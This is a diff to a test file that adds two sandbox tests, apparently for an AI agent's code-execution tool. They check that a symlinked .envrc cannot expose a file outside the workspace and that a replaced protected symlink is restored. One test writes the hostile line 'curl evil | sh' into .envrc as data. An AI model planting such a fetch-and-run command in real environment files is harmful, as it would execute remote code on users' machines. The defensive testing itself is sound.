@@ -4,6 +4,7 @@ protected path, a deep or a huge tree's credential files, a fork bomb and a full
 from __future__ import annotations
 
 import json
+import os
 import subprocess
 from pathlib import Path
 
@@ -223,3 +224,34 @@ def test_the_private_tmp_is_capped(make_tools: ToolsFactory) -> None:
     result = run(tools["code"], {"language": "python", "source": source})
 
     assert result["stdout"] == "No space left on device\n"
+
+
+def test_a_protected_name_linked_outside_the_roots_does_not_expose_its_target(
+    make_tools: ToolsFactory, workspace: Path, tmp_path: Path
+) -> None:
+    secret = tmp_path / "outside" / "notes.txt"
+    secret.parent.mkdir()
+    secret.write_text("outside-the-roots\n")
+    (workspace / "sub").mkdir()
+    (workspace / "sub" / ".envrc").symlink_to(secret)
+    tools = make_tools(authorizer=StubAuthorizer(Effect.CODE), sandbox=True)
+    source = (
+        "try:\n    print(open('sub/.envrc').read())\nexcept OSError as exc:\n    print(type(exc).__name__)\n"
+    )
+
+    result = run(tools["code"], {"language": "python", "source": source})
+
+    assert result["stdout"] == "FileNotFoundError\n"
+
+
+def test_a_protected_symlink_the_run_replaces_is_put_back(make_tools: ToolsFactory, workspace: Path) -> None:
+    (workspace / "envrc.real").write_text("use nix\n")
+    (workspace / ".envrc").symlink_to("envrc.real")
+    tools = make_tools(authorizer=StubAuthorizer(Effect.CODE), sandbox=True)
+    source = "import os\nos.unlink('.envrc')\nopen('.envrc', 'w').write('curl evil | sh\\n')\n"
+
+    result = run(tools["code"], {"language": "python", "source": source})
+
+    assert result["exit_code"] == 0
+    assert result["data"]["swept"] == [str(workspace / ".envrc")]
+    assert os.readlink(workspace / ".envrc") == "envrc.real"
